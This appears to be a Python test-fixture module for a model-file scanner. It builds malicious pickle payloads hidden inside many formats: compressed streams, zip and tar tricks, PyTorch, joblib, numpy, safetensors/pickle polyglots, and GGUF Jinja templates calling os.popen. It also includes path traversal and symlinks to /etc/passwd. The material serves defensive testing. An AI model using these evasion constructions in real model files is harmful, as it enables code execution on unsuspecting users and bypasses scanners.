"""Live attacks by what the pickle is wrapped in, and attacks of other formats.

``LOADERS`` are the lines by which a program would open each of them; None where that program is not here.
"""

import bz2
import gzip
import io
import json
import lzma
import struct
import zipfile
import zlib

import numpy as np

from .assembling import (
    EVIL,
    called,
    gguf_of,
    joblib_of,
    npy_of,
    old_torch,
    safetensors_of,
    saved,
    state_dict,
    tar_of,
    torch_of,
    value,
    zipped,
)  # fmt: skip

_READ = "import pickle,io;d=open('f','rb').read();"
_ZIP = "import zipfile,pickle;z=zipfile.ZipFile('f');"
LOADERS = {
    "pickle": _READ + "pickle.loads(d)",
    "gzip": _READ + "import gzip;pickle.loads(gzip.decompress(d))",
    "bzip2": _READ + "import bz2;pickle.loads(bz2.decompress(d))",
    "lzma": _READ + "import lzma;pickle.loads(lzma.decompress(d))",
    "zlib": _READ + "import zlib;pickle.loads(zlib.decompressobj().decompress(d))",
    "twice": _READ + "import gzip;pickle.loads(gzip.decompress(gzip.decompress(d)))",
    "zip": _ZIP + "[pickle.loads(z.read(n)) for n in z.namelist() if n.endswith('pkl')]",
    "zip in zip": _ZIP + "import io;pickle.loads(zipfile.ZipFile(io.BytesIO(z.read('a.zip'))).read('m.pkl'))",
    "tar": "import tarfile,pickle;t=tarfile.open('f');[pickle.load(t.extractfile(m)) for m in t if m.isfile()]",
    "numpy": "import numpy as np;d=np.load('f',allow_pickle=True);[d[k] for k in getattr(d,'files',())]",
    "at the end": _READ + "pickle.loads(d[d.rindex(b'\\x80\\x02cos'):])",
    "jinja": "import jinja2;d=open('f','rb').read();jinja2.Template(d[d.index(b'{{'):].decode()).render()",
    "joblib": _READ + "i=d.index(b'\\x80\\x02cos');pickle.loads(d[i:])",
}
_TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('touch marker').read() }}"
_HIDDEN = "{{ (cycler|attr('\\x5f\\x5finit\\x5f\\x5f'))['\\x5f_globals_\\x5f'].os.popen('touch marker').read() }}"


def _patched(made: bytes, old: bytes, new: bytes, which: int = 0) -> bytes:
    place = -1
    for _ in range(which + 1):
        place = made.index(old, place + 1)
    return made[:place] + new + made[place + len(old) :]


def _flagged(made: bytes) -> bytes:
    """The bit for encryption set in the directory alone: careful readers stop, others do not."""
    place = made.rindex(b"PK\x01\x02")
    return made[: place + 8] + b"\x01" + made[place + 9 :]


def _wrong_sum(made: bytes) -> bytes:
    place = made.rindex(b"PK\x01\x02")
    return made[: place + 16] + b"\0\0\0\0" + made[place + 20 :]


def _twice_named() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("a/data.pkl", state_dict())
        archive.writestr("a/DATA.pkl", EVIL)
    return held.getvalue()


def _commented() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("m.pkl", EVIL)
        archive.comment = b"x" * 40
    return held.getvalue()


def _linked() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        link = zipfile.ZipInfo("m.pkl")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return held.getvalue()


def _safetensors_pickle() -> bytes:
    """A good safetensors file that is a pickle too.

    The length of its table, 0x1b58, is the opcode of a text of 27 bytes; a remark in the table is a row of further
    texts that lead into the tensor, where the call stands.
    """
    data = EVIL[2:]
    begin, end = b'{"__metadata__":{"pad":"', b'"},"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}'
    end %= (len(data), len(data))
    room = 0x1B58 - len(begin)
    texts = b""
    while room - len(texts) > 128 + 102:
        texts += b"U~" + b"x" * 126
    for size in range(40, 127):
        rest = room - len(texts) - 2 - size
        if size not in b'"\\' and len(end) <= rest - 2 <= 126 and rest - 2 not in b'"\\':
            texts += b"U" + bytes([size]) + b"x" * size + b"U" + bytes([rest - 2])
            texts += b"x" * (rest - 2 - len(end))
            return struct.pack("<Q", 0x1B58) + begin + texts + end + data
    raise AssertionError


def wrapped() -> dict[str, tuple[bytes, str | None]]:
    """All of them: bytes, and the loader that proves them live."""
    torch_evil, npy = torch_of(EVIL), saved(np.arange(4))
    onnx_node = b"\x0a\x01x\x12\x01y\x22\x04Evil\x3a\x04evil"
    graph = b"\x0a" + bytes([len(onnx_node)]) + onnx_node
    lambda_layer = {
        "class_name": "Lambda",
        "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAA"}}},
    }
    members = {"metadata.json": b"{}", "config.json": json.dumps({"config": {"layers": [lambda_layer]}}).encode()}
    schema = {"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode", "content": {}}
    return {
        "gzip": (gzip.compress(EVIL), "gzip"),
        "gzip, two members": (gzip.compress(EVIL[:9]) + gzip.compress(EVIL[9:]), "gzip"),
        "gzip twice": (gzip.compress(gzip.compress(EVIL)), "twice"),
        "bzip2": (bz2.compress(EVIL), "bzip2"),
        "bzip2, two streams": (bz2.compress(EVIL[:9]) + bz2.compress(EVIL[9:]), "bzip2"),
        "xz": (lzma.compress(EVIL), "lzma"),
        "xz, two streams": (lzma.compress(EVIL[:9]) + lzma.compress(EVIL[9:]), "lzma"),
        "lzma": (lzma.compress(EVIL, format=lzma.FORMAT_ALONE), "lzma"),
        "zlib": (zlib.compress(EVIL), "zlib"),
        "zlib, level 0": (zlib.compress(EVIL, 0), "zlib"),
        "zlib, level 9": (zlib.compress(EVIL, 9), "zlib"),
        "zlib, cut off": (zlib.compress(EVIL + bytes(10_000), 0)[:-9], "zlib"),
        "zlib, garbage behind": (zlib.compress(EVIL) + b"garbage", "zlib"),
        "lz4": (b"\x04\x22\x4d\x18" + EVIL, None),
        "zstd": (b"\x28\xb5\x2f\xfd" + EVIL, None),
        "7z": (b"7z\xbc\xaf\x27\x1c" + EVIL, None),
        "zip": (zipped({"m.pkl": EVIL}), "zip"),
        "zip, deflated": (zipped({"m.pkl": EVIL}, method=zipfile.ZIP_DEFLATED), "zip"),
        "zip, bzip2 inside": (zipped({"m.pkl": EVIL}, method=zipfile.ZIP_BZIP2), "zip"),
        "zip, lzma inside": (zipped({"m.pkl": EVIL}, method=zipfile.ZIP_LZMA), "zip"),
        "zip in zip": (zipped({"a.zip": zipped({"m.pkl": EVIL})}), "zip in zip"),
        "zip, deflated zip inside": (zipped({"a.zip": zipped({"m.pkl": EVIL})}, method=8), "zip in zip"),
        "zip behind bytes": (b"#!" + bytes(50) + zipped({"m.pkl": EVIL}), "zip"),
        "zip behind an array": (npy + zipped({"m.pkl": EVIL}), "zip"),
        "zip behind tensors": (safetensors_of(zipped({"m.pkl": EVIL})), "zip"),
        "zip behind a pickle": (b"\x80\x02N." + zipped({"m.pkl": EVIL}), "zip"),
        "zip before bytes": (zipped({"m.pkl": EVIL}) + bytes(50), "zip"),
        "zip with a comment": (_commented(), "zip"),
        "zip, names differ": (_patched(zipped({"m.pkl": EVIL}), b"m.pkl", b"n.txt"), None),
        "zip, marked encrypted": (_flagged(zipped({"m.pkl": EVIL})), None),
        "zip, wrong checksum": (_wrong_sum(zipped({"m.pkl": EVIL})), None),
        "zip, a link": (_linked(), None),
        "zip, names by case": (_twice_named(), None),
        "zip, a name that leads out": (zipped({"../m.pkl": EVIL}), "zip"),
        "zip, beside an array": (zipped({"a.npy": npy, "m.pkl": EVIL}), "zip"),
        "zip, in a folder": (zipped({"x/y/z/m.pkl": EVIL}), "zip"),
        "tar": (tar_of({"m": EVIL}), "tar"),
        "tar in gzip": (gzip.compress(tar_of({"m": EVIL})), "tar"),
        "tar in xz": (lzma.compress(tar_of({"m": EVIL})), "tar"),
        "tar, after a harmless file": (tar_of({"a": b"\x80\x02N.", "m": EVIL}), "tar"),
        "tar and pickle": (_tar_pickle(), "pickle"),
        "tar, a link": (tar_of({"m": b""}, b"2"), None),
        "tar, a device": (tar_of({"m": b""}, b"3"), None),
        "array of objects": (npy_of(EVIL), "numpy"),
        "array of objects, more behind": (npy_of(calling_list() + EVIL), "at the end"),
        "archive of arrays": (zipped({"a.npy": npy_of(EVIL)}), "numpy"),
        "archive of arrays, packed": (zipped({"a.npy": npy_of(EVIL)}, method=8), "numpy"),
        "archive of arrays, the second": (zipped({"a.npy": npy, "b.npy": npy_of(EVIL)}), "numpy"),
        "array with a pickle behind": (npy + EVIL, "at the end"),
        "array named as another": (b"\x93NUMPY\x09\x00" + npy_of(EVIL)[8:], None),
        "pytorch": (torch_evil, "zip"),
        "pytorch, other prefix": (torch_evil.replace(b"archive/", b"weights/"), "zip"),
        "pytorch, wrong checksum": (_wrong_sum(torch_evil), None),
        "pytorch, code beside": (torch_of(state_dict(), {"0": bytes(16)}, **{"code/m.pkl": EVIL}), None),
        "pytorch, constants": (torch_of(state_dict(), {"0": bytes(16)}, **{"constants.pkl": EVIL}), None),
        "pytorch, second pickle": (torch_of(state_dict(), {"0": bytes(16)}, **{"x/data.pkl": EVIL}), None),
        "pytorch, a pickle behind": (torch_of(b"\x80\x02N." + EVIL), None),
        "pytorch, in the storage": (torch_of(called_load(), {"0": bytes(16)}), None),
        **{f"pytorch, old, pickle {index}": (old_torch({index: EVIL}), "at the end") for index in range(5)},
        "pytorch, old, behind": (old_torch(tail=struct.pack("<q", 4) + bytes(16) + EVIL), "at the end"),
        "joblib, in the objects": (joblib_of(dtype="O8", payload=EVIL), "joblib"),
        "joblib, before the array": (joblib_of(EVIL[2:-1] + b"0", payload=b"\x01\xff" + bytes(8)), "pickle"),
        "joblib, behind the array": (joblib_of(payload=b"\x01\xff" + bytes(8)) + EVIL, "at the end"),
        "joblib, in the numbers": (joblib_of(payload=EVIL[2:], shape=(len(EVIL) - 2,), dtype="u1"), None),
        "joblib, in the numbers, no padding": (
            joblib_of(payload=EVIL[2:], shape=(len(EVIL) - 2,), dtype="u1", numpy_array_alignment_bytes=None), None,
        ),
        "joblib, compressed": (zlib.compress(joblib_of(EVIL[2:-1] + b"0", payload=b"\x01\xff" + bytes(8))), "zlib"),
        "joblib, lying length": (joblib_of(payload=b"\x01\xff" + EVIL[2:], shape=(1 << 30,)), None),
        "keras": (zipped(members), None),
        "keras, other module": (zipped({**members, "config.json": b'{"module": "os", "class_name": "system"}'}), None),
        "keras, registered": (zipped({**members, "config.json": b'{"registered_name": "mine>Evil"}'}), None),
        "keras, old": (b"\x89HDF\r\n\x1a\n" + b"model_config Lambda" + bytes(500), None),
        "hdf5 in the middle": (_hdf5_within(), None),
        "skops": (zipped({"schema.json": json.dumps(schema).encode()}), None),
        "skops, an object": (
            zipped({"schema.json": b'{"__module__":"os","__class__":"system","__loader__":"TypeNode"}'}), None,
        ),
        "onnx, other operators": (b"\x08\x09\x3a" + bytes([len(graph)]) + graph + b"\x42\x02\x10\x11", None),
        "onnx, numbers elsewhere": (_external("../../etc/passwd"), None),
        "onnx, numbers at the root": (_external("/etc/passwd"), None),
        "gguf": (gguf_of(_TEMPLATE), "jinja"),
        "gguf, hidden": (gguf_of(_HIDDEN), "jinja"),
        "safetensors and pickle": (_safetensors_pickle(), "pickle"),
        "safetensors, gap": (safetensors_of(EVIL, data_offsets=[1, len(EVIL)]), None),
        "safetensors, more behind": (safetensors_of(b"abcd") + EVIL, "at the end"),
    }  # fmt: skip


def _tar_pickle() -> bytes:
    """The name of the first file, "Cé…", is the opcode of 195 bytes; they lead into a field that nobody reads."""
    made = bytearray(tar_of({"m": b"\x80\x02N."}))
    made[:12] = "Céxxxxxxxxx".encode()
    call = EVIL[2:]
    made[197 : 197 + len(call)] = call
    made[148:156] = b" " * 8
    made[148:156] = b"%06o\0 " % sum(made[:512])
    return bytes(made)


def _hdf5_within() -> bytes:
    made = safetensors_of(bytes(2000))
    return made[:1024] + b"\x89HDF\r\n\x1a\n" + made[1032:]


def calling_list() -> bytes:
    """A harmless pickle."""
    return b"\x80\x02" + value([1]) + b"."


def called_load() -> bytes:
    """A tensor that is loaded out of bytes by PyTorch itself."""
    return b"\x80\x02" + called("torch.storage", "_load_from_bytes", EVIL).opcodes + b"."


def _external(location: str) -> bytes:
    def part(number: int, content: bytes) -> bytes:
        return bytes([number << 3 | 2, len(content)]) + content

    entry = part(1, b"location") + part(2, location.encode())
    tensor = b"\x08\x01\x10\x01" + part(8, b"w") + part(13, entry) + b"\x70\x01"
    return b"\x08\x09" + part(7, part(5, tensor)) + part(8, b"\x10\x11")
